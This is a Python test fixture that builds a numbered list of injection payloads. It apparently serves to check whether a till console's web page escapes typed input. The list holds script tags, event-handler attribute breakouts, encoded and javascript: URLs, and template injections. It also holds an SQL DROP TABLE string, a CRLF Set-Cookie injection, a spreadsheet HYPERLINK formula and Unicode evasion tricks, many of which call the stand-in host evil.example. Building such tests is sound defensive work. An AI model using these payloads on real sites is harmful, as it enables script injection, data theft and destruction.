"""What somebody may type into a till to make a console's page do as they please; every one has a number of its own.

A page that takes one for anything but text calls `pwn(NUMBER)`, holds an element or an attribute called `pwn`, or asks evil.example
for something.
"""

# In what follows CALL is such a call, and § the number.
CALL = "pwn(%d)"

TAGS = """
<script>CALL</script>|<ScRiPt>CALL</sCrIpT>|<script/x>CALL</script>|<script src=https://evil.example/§.js></script>|<script>CALL//
<<script>CALL//<</script>
<img src=x onerror=CALL>|<img src="x" onerror="CALL">|<img src='x' onerror='CALL'>|<img/src=x/onerror=CALL>
<img src=https://evil.example/§.png>|<IMG SRC=x ONERROR="CALL"
<svg onload=CALL>|<svg/onload=CALL>|<svg><script>CALL</script></svg>|<svg><animate onbegin=CALL attributeName=x dur=1s>
<svg><a xlink:href="javascript:CALL"><text x=20 y=20>§</text></a></svg>
<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>|<svg><use href="data:image/svg+xml,<svg id=x onload=CALL>#x"></svg>
<math><mtext><img src=x onerror=CALL></math>
<iframe srcdoc="<script>parent.CALL</script>"></iframe>|<iframe src=javascript:parent.CALL></iframe>
<iframe src=//evil.example/§></iframe>|<object data=javascript:CALL></object>|<embed src=//evil.example/§>
<body onload=CALL>|<details open ontoggle=CALL>§</details>|<video><source onerror=CALL></video>|<audio src=x onerror=CALL>
<marquee onstart=CALL>§</marquee>|<input autofocus onfocus=CALL>
<select autofocus onfocus=CALL>|<textarea autofocus onfocus=CALL>|<a href="javascript:CALL">§</a>|<a href=//evil.example/§ pwn>§</a>
<b class=pwn pwn>§</b>|<pwn>§</pwn>|<p pwn=§
<base href=https://evil.example/§/>|<meta http-equiv=refresh content="0;url=https://evil.example/§">
<link rel=stylesheet href=https://evil.example/§.css>|<style>@import url(https://evil.example/§.css)</style>
<style>*{background:url(https://evil.example/§)}</style>|<form action=https://evil.example/§><button pwn>§</button></form>
<button form=x formaction=//evil.example/§ pwn>§</button>|<template><pwn>§</pwn></template>
</title><script>CALL</script>|</textarea><script>CALL</script>|</option></select><img src=x onerror=CALL>
</code></p><img src=x onerror=CALL>|</td></tr></table><pwn>§</pwn>|</main></body></html><pwn>§</pwn>
</svg><img src=x onerror=CALL>|</script><script>CALL</script>|</style><pwn>§</pwn>|</noscript><pwn>§</pwn>|--><script>CALL</script>
<!--§--><pwn>|]]><script>CALL</script>|<![CDATA[<pwn>§]]>|<?xml §?><pwn>
<noscript><p title="</noscript><img src=x onerror=CALL>">|<dialog open pwn>§</dialog>|<time datetime="§" pwn>|<summary pwn>§</summary>
<mark pwn>§</mark>|<plaintext pwn>§|<xmp><pwn>§</xmp><pwn>
"""

ATTRIBUTES = """
" onmouseover="CALL|" onfocus="CALL" autofocus="|" autofocus onfocus=CALL x="|"onpointerenter=CALL "
" style="background:url(https://evil.example/§)|" pwn="§|"pwn=§ "|" class="pwn" pwn "
' onmouseover='CALL|' onfocus='CALL' autofocus='|' autofocus onfocus=CALL x='|' pwn='§|`onmouseover=`CALL| onmouseover=CALL pwn=§|§ pwn
"><pwn>§</pwn>|'><pwn>§</pwn>|"/><script>CALL</script>
">§<img src=x onerror=CALL>|'">§<svg onload=CALL>|" formaction="https://evil.example/§" pwn="|" href="javascript:CALL" pwn="
" src="//evil.example/§" pwn="|" data-key="1" pwn="§|" hidden pwn="§
" data-live id="§" pwn="|" data-search="§" pwn="|" data-copy="§" pwn="|" value="§" checked pwn="|" list="§" pwn="|\\" pwn=\\"§
\\' pwn=\\'§|" translate(§) pwn="
"""

ENTITIES = """
&lt;script&gt;CALL&lt;/script&gt;|&#60;script&#62;CALL&#60;/script&#62;|&#x3c;script&#x3e;CALL&#x3c;/script&#x3e;
&quot; onfocus=&quot;CALL|&#34; pwn=&#34;§|&#39; pwn=&#39;§|&amp;lt;pwn&amp;gt;§
&lt;img src=x onerror=CALL&gt;|&LT;pwn&GT;§|&#0000060pwn&#0000062;§|&NewLine;&Tab;§|&nbsp;§&nbsp;|&copy §|&colon;§|javascript&colon;CALL
&amp;amp;§|%3Cscript%3ECALL%3C/script%3E|%22%20pwn=%22§|\\u003cpwn\\u003e§|\\x3cpwn\\x3e§
"""

ADDRESSES = """
javascript:CALL|JaVaScRiPt:CALL|java&#9;script:CALL|javascript://%0aCALL|data:text/html,<script>CALL</script>|data:text/html;base64,§
vbscript:CALL|//evil.example/§|https://evil.example/§|\\\\evil.example\\§
?said=§&pwn=1|#§|../../§|..|./§|a/b/§|a?b=§|a#§|%2e%2e%2f§|100%§|a+b §|a;b=§|a&b=§|§%00|%|/§/
"""

TEMPLATES = """
{{§}}|{{{§}}}|{{page}} §|{{{body}}} §|{{#page}}§{{/page}}|{{^page}}§{{/page}}|{{>frame}} §|{{>menu}}§|{{form}} §|{{s.search}} §
{{=<% %>=}} §|{{! § }}|{{&form}} §|{{frame.title}}§|{{<frame}}§{{/frame}}
${CALL}|#{CALL}|<%= CALL %>|{% CALL %}|[[CALL]]|{CALL}|{n} §|{site} {name} {value} §|{who} {when} {count} §|%s %d %n %@ §|%1$s §|\\(§)|$§
$(§)|`§`|⟦§|key-one §|'); DROP TABLE customer; -- §|=HYPERLINK("https://evil.example/§")|@§
"""

# The last characters are marks that join the one before them: what replaces whole characters finds no < and no " there.
UNICODE = [
    "\"\u0301 pwn=\"\u0301§", "\"\u0301 onfocus=CALL autofocus \"\u0301", "'\u0301 pwn='\u0301§", "<\u0338pwn>\u0338§",
    "<\u0301script>\u0301CALL</script>", "&\u0301lt;pwn&gt;\u0301§", "\"\ufe0f pwn=\"\ufe0f§", "<\ufe0fpwn>\ufe0f§</pwn>",
    "\"\u200d pwn=\"\u200d§", "<\u200dpwn>\u200d§", "<b\u0301 pwn>§", ">\u0338<\u0338pwn>§", "\"\u20e3 pwn=\"\u20e3§", "<\u20e3pwn>§",
    "\uff1cscript\uff1eCALL\uff1c/script\uff1e", "\uff02 pwn=\uff02§", "\u2039script\u203aCALL", "\u02ba pwn=\u02ba§",
    "<scr\u200bipt>CALL</scr\u200bipt>", "<\u00adscript>CALL</script>", "\u202e<pwn>§\u202c", "\u2066\"pwn=\"§\u2069", "§\u2028<pwn>",
    "§\u2029<pwn>", "\ufeff<pwn>§", "<pwn\u00a0x>§", "<pwn\u3000x>§", "§\r\n<pwn>", "\"\r\npwn=\"§", "§\r\nSet-Cookie: pwn=1",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467<pwn>§", "\U0001f3f4\"pwn=\"§", "<\U000e0020pwn>§", "\u0130<pwn>§",
    "\ufb01<script>CALL</script>", "\u212a\"pwn=§ \"", "\u1e9e<pwn>§</pwn>", "Zalgo\u0300\u0301\u0302\u0303\u0304\u0305<pwn>§",
    "\t<pwn>§", "§\x0b<pwn>", "§\x0c<pwn>", "§\x01<pwn>", "§\x7f<pwn>", "§\u0085<pwn>",
]


def payloads():
    """All of them, each with its number; what the number stands in twice is one all the same."""
    written = [payload for text in (TAGS, ATTRIBUTES, ENTITIES, ADDRESSES, TEMPLATES) for line in text.strip("\n").split("\n")
               for payload in line.split("|")]
    return [numbered(payload, number) for number, payload in enumerate(written + UNICODE, start=1)]


def numbered(payload, number):
    text = payload.replace("CALL", CALL % number).replace("§", f"n{number}n")
    # Two that name no number would be one.
    return text if str(number) in text else f"{text}n{number}n"
